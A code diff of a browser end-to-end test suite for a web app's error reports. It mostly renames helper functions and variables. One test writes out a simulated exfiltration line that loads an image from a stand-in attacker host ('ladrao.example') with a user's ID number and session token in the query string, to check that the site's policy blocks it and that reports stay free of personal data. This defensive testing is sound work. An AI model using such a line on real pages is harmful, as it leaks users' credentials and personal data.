@@ -2,8 +2,8 @@
 // policy refused. None has a word of the person.
 import type { Page } from "playwright-core";
 import * as assert from "uvu/assert";
-import { builtSite, journeySuite, open, waitForScreen } from "./browser.ts";
-import { eventually, turnOnDataSaver } from "./steps.ts";
+import { builtSite, journeySuite, open, waitUntilScreenLoaded } from "./browser.ts";
+import { eventually, turnOnDataSaverFromNextLoad } from "./steps.ts";
 
 const reports = journeySuite("Error reports");
 
@@ -86,7 +86,7 @@ reports(
   () =>
     logged(async () => {
       const { page, errors } = await open({ path: NAMED, as: "maria", receivesErrorReports: true });
-      await waitForScreen(page);
+      await waitUntilScreenLoaded(page);
       const token = await tokenOf(page);
       await page.evaluate((secret) =>
         void setTimeout(() => {
@@ -121,13 +121,13 @@ reports(
         as: "maria",
         receivesErrorReports: true,
       });
-      await turnOnDataSaver(page);
+      await turnOnDataSaverFromNextLoad(page);
       const asked: string[] = [];
       page.on("request", (request) => asked.push(new URL(request.url()).pathname));
       await page.goto(`${url}/pets`);
-      await waitForScreen(page);
+      await waitUntilScreenLoaded(page);
       await page.getByRole("link", { name: "Início" }).click();
-      await waitForScreen(page);
+      await waitUntilScreenLoaded(page);
       const { files } = await builtSite();
       const script = files.find(({ path }) => path.startsWith("/assets/errors-"))!;
       const isForReports = (path: string) => [script.path, "/erros"].includes(path);
@@ -143,14 +143,14 @@ reports(
 // Only by HTTPS, and not at all in the headless shell: Chromium 156.
 reports("what the policy refused is one line, as Chromium sends it", () =>
   logged(async () => {
-    const { page, violations, foreign, errors } = await open({
+    const { page, policyViolations, foreignRequests, errors } = await open({
       path: NAMED,
       as: "maria",
       receivesErrorReports: true,
       https: true,
       wholeBrowser: true,
     });
-    await waitForScreen(page);
+    await waitUntilScreenLoaded(page);
     const token = await tokenOf(page);
     await page.evaluate((secret) => {
       new Image().src = `https://ladrao.example/?Maria=52998224725&token=${secret}`;
@@ -171,8 +171,8 @@ reports("what the policy refused is one line, as Chromium sends it", () =>
     ]);
     assertNobody(token);
     // Chromium logs what Trusted Types refuse without the word policy.
-    assert.equal([violations.length, errors.length], [1, 1]);
-    violations.length = foreign.length = errors.length = 0;
+    assert.equal([policyViolations.length, errors.length], [1, 1]);
+    policyViolations.length = foreignRequests.length = errors.length = 0;
   }));
 
 reports.run();
